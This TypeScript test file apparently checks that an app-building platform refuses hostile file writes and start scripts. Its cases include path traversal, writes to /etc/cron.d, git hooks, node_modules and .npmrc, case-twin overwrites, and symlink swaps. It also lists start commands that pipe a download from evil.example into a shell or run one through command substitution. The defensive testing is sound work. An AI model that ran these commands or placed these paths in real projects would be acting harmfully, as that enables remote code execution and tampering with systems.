import { mkdtemp, rm, symlink } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { applyEdit } from '../../../src/activities/apply-edit.ts'
import { platformPaths, refusedPaths } from '../../../src/activities/refused-paths.ts'
import { renderApp } from '../../../src/builder/render-app.ts'
import { type AppFile, encodeFiles } from '../../../src/workspace/files/application-file.ts'
import { writeTree } from '../../../src/workspace/files/write-tree.ts'
import { nodeArguments } from '../../../src/workspace/test-run/npm-script.ts'
import { type Attack, refusal } from './attack.ts'
import { honestSpec } from './honest-team.ts'

const app = renderApp(honestSpec, { builtBy: 'a test' })
const locked = ['acceptance/limits.test.mjs']
const reserved = new Set([...platformPaths, ...locked])

/** Whether the application takes a further file, by every way that a file can come into it. */
const file = (id: string, tries: string, path: string, content = 'evil'): Attack => ({
  id: `files/${id}`,
  tries,
  stoppedBy: 'path_refused',
  attempt: () => {
    const added: AppFile = { path, content }
    const whole = refusedPaths([...app, added], [...reserved]).map(({ code }) => code)
    const edited = applyEdit({ files: app, paths: [path], reserved }, { edits: [{ path, patch: null, content }] })
    const byItem = 'findings' in edited ? edited.findings.map(({ code }) => code) : []
    return whole.length > 0 && byItem.length > 0 ? [...whole, ...byItem] : []
  },
})

const edit = (
  id: string,
  tries: string,
  stoppedBy: string,
  of: { path: string; items?: string[]; content: string | null; find?: string },
): Attack => ({
  id: `files/${id}`,
  tries,
  stoppedBy,
  attempt: () => {
    const { path, content, find } = of
    const one =
      find === undefined
        ? { path, patch: null, content }
        : { path, patch: [{ find, replace: content ?? '' }], content: null }
    const done = applyEdit({ files: app, paths: of.items ?? [path], reserved }, { edits: [one] })
    return 'findings' in done ? done.findings.map(({ code }) => code) : []
  },
})

const start = (id: string, tries: string, script: string): Attack => ({
  id: `files/${id}`,
  tries,
  stoppedBy: 'APP_CONTRACT_BROKEN',
  attempt: () =>
    refusal(() =>
      nodeArguments([{ path: 'package.json', content: JSON.stringify({ scripts: { start: script } }) }], 'start'),
    ),
})

/** Files where none belong: outside of the application, in place of others, too many, too large. */
export const fileAttacks: readonly Attack[] = [
  file('parent', 'writes a file beside the application', '../evil.js'),
  file('parent-inside', 'climbs out of a folder', 'src/../../evil.js'),
  file('absolute', 'writes to an absolute path', '/etc/cron.d/evil'),
  file('backslash', 'climbs out by backslashes', '..\\..\\evil.js'),
  file('drive', 'writes to a drive of Windows', 'C:evil.js'),
  file('nul', 'cuts a path off by NUL', 'src/a.js\0.txt'),
  file('device', 'writes to a device of Windows', 'src/CON.js'),
  file('stream', 'writes to a stream beside a file', 'server.js:evil'),
  file('invisible', 'hides a name by turning its direction', 'src/\u202esj.live'),
  file('node-modules', 'puts a module into node_modules', 'node_modules/express/index.js'),
  file('git-hook', 'puts a hook into the repository', '.git/hooks/post-checkout'),
  file('npmrc', 'turns npm to another registry', '.npmrc'),
  file('g1', 'writes where the platform keeps its data', '.g1/store'),
  file('case-twin', 'takes the place of package.json by case', 'Package.JSON'),
  file('file-as-folder', 'makes a folder of a file', 'server.js/evil.js'),
  file('document', 'writes the traceability matrix itself', 'docs/traceability.md'),
  file('document-case', 'writes it where case does not count', 'Docs/Traceability.md'),
  file('locked-test-case', 'replaces a locked test by case', 'acceptance/Limits.test.mjs'),
  file('surrogate', 'writes text that is no text', 'src/a.js', '\ud800'),
  file('huge', 'fills the disk with one file', 'src/a.js', 'x'.repeat(65 * 1024 * 1024)),
  {
    id: 'files/many',
    tries: 'writes more files than a disk has room for',
    stoppedBy: 'path_refused',
    attempt: () =>
      refusedPaths(
        Array.from({ length: 5_000 }, (_, index) => ({ path: `a/${index}.js`, content: '' })),
        [],
      ).map(({ code }) => code),
  },
  edit('locked-test', 'edits a locked test', 'test_locked', { path: 'acceptance/limits.test.mjs', content: 'ok' }),
  edit('other-item', 'edits a file that is not of its item', 'path_refused', {
    path: 'src/app.js',
    items: ['server.js'],
    content: 'ok',
  }),
  edit('binary', 'writes control characters into a source', 'patch_refused', {
    path: 'src/app.js',
    content: '\u001b]0;owned\u0007',
  }),
  edit('remove-nothing', 'removes a file that is not there', 'patch_refused', { path: 'src/none.js', content: null }),
  edit('patch-nowhere', 'patches a text that is not there', 'patch_refused', {
    path: 'server.js',
    find: 'not there',
    content: 'evil',
  }),
  start('shell', 'starts a shell beside the application', 'node server.js; curl evil.example | sh'),
  start('other-program', 'starts another program', 'sh -c "node server.js"'),
  start('substitution', 'runs a command inside of an argument', 'node $(curl evil.example)'),
  {
    id: 'files/symlink',
    tries: 'has a folder exchanged for a link while it is written',
    stoppedBy: 'PATH_REFUSED',
    attempt: async () => {
      const root = await mkdtemp(join(tmpdir(), 'g1-attack-'))
      try {
        await symlink('/tmp', join(root, 'src'))
        return await refusal(() => writeTree(root, encodeFiles([{ path: 'src/evil.js', content: 'evil' }])))
      } finally {
        await rm(root, { recursive: true, force: true })
      }
    },
  },
]
